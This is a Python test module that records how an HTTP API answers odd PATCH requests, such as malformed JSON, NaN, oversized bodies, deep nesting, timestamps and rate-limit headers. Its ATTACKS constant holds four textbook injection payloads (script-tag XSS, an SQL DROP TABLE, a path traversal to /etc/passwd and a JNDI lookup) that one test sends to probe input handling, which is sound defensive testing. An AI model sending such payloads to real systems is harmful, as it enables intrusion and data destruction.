"""What the contract leaves open: each test finds out what the target does, and judges nothing.

It returns the outcome in a few words that stay the same as long as the target does; its last exchange shows it.
"""

import re
import time
from collections.abc import Mapping

from contracts.editions.edition import Edition
from contracts.vocabulary import rfc3339
from contracts.vocabulary.display import ABSENT
from contracts.vocabulary.outcomes import Inconclusive
from fixtures.checks import schemathesis_cases
from fixtures.checks.client_readings import Readings
from fixtures.checks.observations import became, furthest, observation, told, told_of
from fixtures.checks.out_of_reach import NOT_GIVEN, UNKNOWN, Way, without_namespace
from fixtures.checks.patches_twice import walk_taken
from fixtures.checks.plain_answers import refusals
from fixtures.checks.refused_credentials import attempts
from fixtures.checks.system_names import set_once
from fixtures.examples.shared_answers import Shared, expect_answer
from fixtures.http import credentials
from fixtures.http.answer import Answer
from fixtures.objects.custom_fields import done_to_custom_fields
from fixtures.objects.object_record import TOUCH
from fixtures.objects.subject import Subject
from fixtures.objects.workspace import Workspace
from fixtures.strategies import IMMUTABLE_NAMES

LATER_NAMES = ("edges", "consistency")
ATTACKS = {
    "markup": "<script>alert(1)</script>",
    "SQL": "' OR 1=1; DROP TABLE amber; --",
    "a path": "../../../../etc/passwd",
    "a look-up": "${jndi:ldap://amber.example/birch}",
}
LIMIT_HEADERS = (
    "retry-after",
    "x-ratelimit-limit",
    "x-ratelimit-remaining",
    "x-ratelimit-reset",
    "x-ratelimit-window",
    "x-request-id",
)


@observation("missing-key-code")
def test_what_a_missing_key_is_answered_with(subject: Subject, shared: Shared) -> str:
    return told_of(attempts(subject, shared).by_credential[credentials.NONE].answer)


@observation("unknown-key-code")
def test_what_an_unknown_key_is_answered_with(subject: Subject, shared: Shared) -> str:
    return told_of(attempts(subject, shared).by_credential[credentials.NEVER_ISSUED[0]].answer)


@observation("missing-namespace-code")
def test_what_a_missing_namespace_is_answered_with(subject: Subject, shared: Shared) -> str:
    return told_of(without_namespace(subject, shared).by_way[Way(NOT_GIVEN[0])].answer)


@observation("unknown-namespace-code")
def test_what_an_unknown_namespace_is_answered_with(subject: Subject, shared: Shared) -> str:
    return told_of(without_namespace(subject, shared).by_way[Way(UNKNOWN[0])].answer)


@observation("other-namespace-code")
def test_what_another_namespace_is_answered_with(observed: Subject, other_namespace: str) -> str:
    return told(observed.attempt(observed.note(), namespace=other_namespace))


@observation("validation-form")
def test_in_which_form_a_wrong_type_is_refused(observed: Subject, shared: Shared) -> str:
    answer = wrong_type(observed, shared)
    members = answer.exchange.response.members or {}
    forms = {"detail": "the validation form", "error": "the error envelope"}
    return f"{told(answer)}, in {next((form for name, form in forms.items() if name in members), 'another form')}"


@observation("malformed-body-code")
def test_what_malformed_json_is_answered_with(observed: Subject, shared: Shared) -> str:
    return told(malformed(observed, shared))


@observation("null-body")
def test_what_null_for_a_body_is_answered_with(observed: Subject) -> str:
    return told(observed.attempt(content=b"null"))


@observation("byte-order-mark")
def test_what_becomes_of_a_byte_order_mark(observed: Subject) -> str:
    return told(observed.attempt(content=b'\xef\xbb\xbf{"note": 1}'))


@observation("not-a-number")
def test_what_becomes_of_nan(observed: Subject) -> str:
    return became(observed.attempt(content=b'{"note": NaN}'), "note", "NaN", {"zero": 0})


@observation("duplicate-names")
def test_which_of_two_members_of_one_name_counts(observed: Subject) -> str:
    answer = observed.attempt(content=b'{"note": "first", "note": "last"}')
    return became(answer, "note", "last", {"the first counts": "first"}).replace(
        "kept as it was sent", "the last counts"
    )


@observation("wrong-content-type")
def test_what_another_content_type_is_answered_with(observed: Subject) -> str:
    return told(observed.attempt(observed.note(), headers=[("Content-Type", "text/plain")]))


@observation("merge-patch-content-type")
def test_what_the_type_of_merge_patches_is_answered_with(observed: Subject) -> str:
    return told(observed.attempt(observed.note(), headers=[("Content-Type", "application/merge-patch+json")]))


@observation("empty-patch")
def test_what_an_empty_patch_is_answered_with(observed: Subject) -> str:
    return told(observed.attempt({}))


@observation("system-names")
def test_whether_system_names_are_refused_or_ignored(subject: Subject, shared: Shared, edition: Edition) -> str:
    sent = set_once(subject, shared, edition).sent
    answers = {name: expect_answer(sent[name]) for name in IMMUTABLE_NAMES}
    return grouped({name: "accepted" if answer.accepted else told(answer) for name, answer in answers.items()})


@observation("later-system-names")
def test_what_becomes_of_names_of_later_editions(observed: Subject) -> str:
    outcomes = {}
    for name in LATER_NAMES:
        answer = observed.attempt({name: "text"})
        outcomes[name] = became(answer, name, "text") if answer.accepted else told(answer)
    return grouped(outcomes)


@observation("custom-fields")
def test_what_becomes_of_custom_fields(observed: Subject) -> str:
    if not observed.made:
        raise Inconclusive("an object that was handed over may keep such a field for good")
    answer = Answer(observed.client.send("PATCH", observed.path, json={TOUCH: 0}))
    return {"taken": "taken", "ignored": "ignored with a warning"}.get(
        done_to_custom_fields(answer.exchange) or "", told(answer)
    )


@observation("null-extra-field")
def test_what_null_makes_of_an_extra_field(observed: Subject) -> str:
    observed.patch({"note": "text"})
    return became(observed.patch({"note": None}), "note", None, {"left alone": "text"})


@observation("null-key-prefix")
def test_what_null_makes_of_key_prefix(observed: Subject) -> str:
    observed.patch({"key_prefix": "some/prefix"})
    return became(
        observed.patch({"key_prefix": None}), "key_prefix", None, {"left alone": "some/prefix", "emptied": ""}
    )


@observation("metadata-object")
def test_what_becomes_of_an_object_named_metadata(observed: Subject) -> str:
    answer = observed.patch({"metadata": {"innernote": "text"}})
    if answer["innernote"] == "text":
        return "spread over the root"
    return became(answer, "metadata", {"innernote": "text"}, {"an empty object": {}})


@observation("object-sent-again")
def test_whether_an_object_is_replaced_or_merged(observed: Subject) -> str:
    observed.patch({"note": {"old": 1}})
    answer = observed.patch({"note": {"new": 2}})
    return became(answer, "note", {"new": 2}, {"replaced": {"new": 2}, "merged": {"old": 1, "new": 2}})


@observation("skip-duplicates-coercion")
def test_which_scalars_skip_duplicates_takes(observed: Subject) -> str:
    values = {'"true"': "true", '"yes"': "yes", "1": 1}
    return grouped({name: told(observed.attempt({"skip_duplicates": value})) for name, value in values.items()})


@observation("key-prefix-coercion")
def test_what_becomes_of_a_number_for_key_prefix(observed: Subject) -> str:
    return became(observed.attempt({"key_prefix": 12}), "key_prefix", 12, {"made text": "12"})


@observation("integers-beyond-2-53")
def test_what_becomes_of_integers_beyond_2_53(observed: Subject) -> str:
    return of_number(observed, 2**53 + 1)


@observation("integers-beyond-64-bits")
def test_what_becomes_of_integers_beyond_64_bits(observed: Subject) -> str:
    return of_number(observed, 2**64 + 1)


@observation("nul")
def test_what_becomes_of_nul_in_text(observed: Subject) -> str:
    words = {"taken out": "beforeafter", "cut short": "before", "replaced": "before\ufffdafter"}
    return became(observed.attempt({"note": "before\0after"}), "note", "before\0after", words)


@observation("lone-surrogates")
def test_what_becomes_of_lone_surrogates(observed: Subject) -> str:
    words = {
        "taken out": "beforeafter",
        "cut short": "before",
        "replaced": "before\ufffdafter",
        "a ?": "before?after",
    }
    answer = observed.attempt(content=rb'{"note": "before\ud800after"}')
    return became(answer, "note", "before\ud800after", words)


@observation("text-of-attacks")
def test_what_text_is_answered_with_that_looks_like_an_attack(observed: Subject) -> str:
    texts = dict(zip(observed.fresh_names(len(ATTACKS)), ATTACKS.values(), strict=True))
    answer = observed.attempt(texts)
    if answer.accepted:
        return told(answer)
    answers = [observed.attempt({name: text}) for name, text in texts.items()]
    return grouped({kind: told(one) for kind, one in zip(ATTACKS, answers, strict=True)})


@observation("empty-name")
def test_what_becomes_of_a_field_without_a_name(observed: Subject) -> str:
    return became(observed.attempt({"": "text"}), "", "text")


@observation("name-length")
def test_how_long_a_name_may_be(observed: Subject) -> str:
    sizes = (64, 256, 1_000, 10_000) if observed.made else (64, 256, 1_000)  # such a name may stay for good
    return furthest(sizes, "characters", lambda size: observed.attempt({"n" * size: 1}), observed.fresh_one)


@observation("text-length")
def test_how_long_a_text_may_be(observed: Subject) -> str:
    sizes = (1_000, 10_000, 100_000)
    return furthest(sizes, "characters", lambda size: observed.attempt({"note": "t" * size}), observed.fresh_one)


@observation("depth")
def test_how_deep_a_value_may_be_nested(observed: Subject) -> str:
    sizes = (5, 10, 20, 50, 100)
    return furthest(sizes, "levels", lambda size: observed.attempt(content=nested(size)), observed.fresh_one)


@observation("field-count")
def test_how_many_fields_a_patch_may_have(observed: Subject) -> str:
    sizes = (10, 100, 1_000) if observed.made else (10, 100, 250)  # and so may all of these
    names = observed.fresh_names(sizes[-1])
    patch = lambda count: observed.attempt(dict.fromkeys(names[:count], count))  # noqa: E731
    return furthest(sizes, "fields", patch, observed.fresh_one)


@observation("body-size")
def test_how_large_a_body_may_be(observed: Subject) -> str:
    item = "a text of 26 bytes, quoted"
    sizes = (10_000, 100_000, 1_000_000)
    patch = lambda size: observed.attempt({"note": [item] * (size // 30)})  # noqa: E731
    return furthest(sizes, "bytes", patch, observed.fresh_one)


@observation("timestamp-offset")
def test_with_which_offset_timestamps_are_written(observed: Subject, shared: Shared) -> str:
    offset = re.search(r"([Zz]|[+-]\d\d:?\d\d)$", written_time(touches(observed, shared)[-1]))
    return offset[0] if offset else "none"


@observation("timestamp-precision")
def test_how_many_digits_fractions_of_a_second_have(observed: Subject, shared: Shared) -> str:
    # Some writers leave zeros at the end out: the most of several is what they can.
    digits = max(fraction_digits(written_time(answer)) for answer in touches(observed, shared))
    return f"up to {digits} digits" if digits else "whole seconds"


@observation("updated-at-after-no-change")
def test_whether_a_patch_without_a_change_moves_updated_at(observed: Subject) -> str:
    same = observed.note()
    observed.patch(same)
    before = written_time(observed.touch())
    if fraction_digits(before) < 3:
        time.sleep(1.1)  # a clock of whole seconds needs one to pass
    observed.patch(same)
    again = observed.patch(same)
    return "moved" if rfc3339.instant(again["updated_at"]) != rfc3339.instant(before) else "stays"


@observation("bucket-by-name")
def test_whether_a_bucket_goes_by_its_name(observed: Subject, workspace: Workspace) -> str:
    by_name = observed.path_in(workspace.name_of(observed.bucket))
    return told(observed.attempt(observed.note(), path=by_name))


@observation("fresh-status")
def test_which_status_a_fresh_object_has(subject: Subject) -> str:
    status = subject.settled_status() if subject.made else None
    if not isinstance(status, str):
        raise Inconclusive("no status of a fresh object was seen")
    return status


@observation("document-count")
def test_whether_the_answer_counts_documents(observed: Subject, shared: Shared) -> str:
    count = touches(observed, shared)[-1]["document_count"]
    return "left out" if count is ABSENT else "null" if count is None else "counted"


@observation("unset-fields")
def test_whether_fields_without_a_value_are_null_or_left_out(
    observed: Subject, shared: Shared, edition: Edition
) -> str:
    answer = touches(observed, shared)[-1]
    values = {name: answer[name] for name in edition.schema("BucketObject")["properties"]}
    empty = {name: value for name, value in values.items() if value is None or value is ABSENT}
    return grouped({name: "null" if value is None else "left out" for name, value in empty.items()})


@observation("further-fields")
def test_which_fields_the_edition_does_not_know(observed: Subject, shared: Shared, edition: Edition) -> str:
    if not observed.made:
        raise Inconclusive("an object that was handed over may have fields of its own")
    answer = touches(observed, shared)[-1]
    known = {*edition.schema("BucketObject")["properties"], *observed.sent}
    return ", ".join(sorted(answer.document.keys() - known)) or "none"


@observation("rate-limit-headers")
def test_which_headers_tell_of_limits(observed: Subject, shared: Shared) -> str:
    names = {name.lower() for name, _ in touches(observed, shared)[-1].exchange.response.headers}
    return ", ".join(name for name in LIMIT_HEADERS if name in names) or "none"


@observation("second-opinion")
def test_what_schemathesis_alone_finds_fault_with(observed: Subject, shared: Shared, edition: Edition) -> str:
    answers = [touches(observed, shared)[-1], malformed(observed, shared), wrong_type(observed, shared)]
    return schemathesis_cases.opinion_alone([*answers, *refusals(observed, shared)], edition) or "nothing"


def touches(observed: Subject, shared: Shared) -> list[Answer]:
    """Return the answers to five patches, the last one of one field; the others are of the walk, if it was taken."""

    def ask() -> list[Answer]:
        walked = walk_taken(shared)
        before = [] if walked is None else [step.once for step in walked.taken[:4]]
        return [*before, *(observed.touch() for _ in range(5 - len(before)))]

    return shared.once("touches", ask, observed.fresh_one)


def wrong_type(observed: Subject, shared: Shared) -> Answer:
    """Return the answer to a patch with a wrong type, which is sent once."""
    return shared.once("wrong type", lambda: observed.attempt({"key_prefix": {"an": "object"}}), observed.fresh_one)


def malformed(observed: Subject, shared: Shared) -> Answer:
    """Return the answer to a patch that is not JSON, which is sent once."""
    return shared.once("malformed", lambda: observed.attempt(content=b'{"note": '), observed.fresh_one)


def of_number(observed: Subject, number: int) -> str:
    """Say what becomes of an integer that not every parser can hold."""
    words = {"rounded to a double": float(number), "made text": str(number)}
    return became(observed.attempt({"note": number}), "note", number, words)


def nested(levels: int) -> bytes:
    """Return a patch whose value holds as many arrays within each other."""
    return b'{"note": ' + b"[" * levels + b"]" * levels + b"}"


def written_time(answer: Answer) -> str:
    """Return updated_at as it is written. Raises Inconclusive if it is not a text."""
    written = answer["updated_at"]
    if not isinstance(written, str):
        raise Inconclusive("the answer gives no updated_at that is a text")
    return written


def fraction_digits(written: str) -> int:
    """Count the digits behind the decimal point."""
    fraction = re.search(r"\.(\d+)", written)
    return len(fraction[1]) if fraction else 0


def grouped(outcomes: Mapping[str, str]) -> str:
    """Return outcomes with the names that have them, the names in their order."""
    groups: dict[str, list[str]] = {}
    for name, outcome in outcomes.items():
        groups.setdefault(outcome, []).append(name)
    if len(groups) == 1 and len(outcomes) > 1:
        return f"all {next(iter(groups))}"
    return "; ".join(f"{', '.join(names)}: {outcome}" for outcome, names in groups.items()) or "none"


@observation("client-drops")
def test_which_members_the_client_drops(observed: Subject, readings: Readings) -> str:
    answers = (observed.attempt({"key_prefix": {"an": "object"}}), observed.attempt(observed.note()), observed.read())
    dropped = {member for answer in answers for member in readings.of(answer).dropped}
    return ", ".join(sorted(dropped)) or "none"
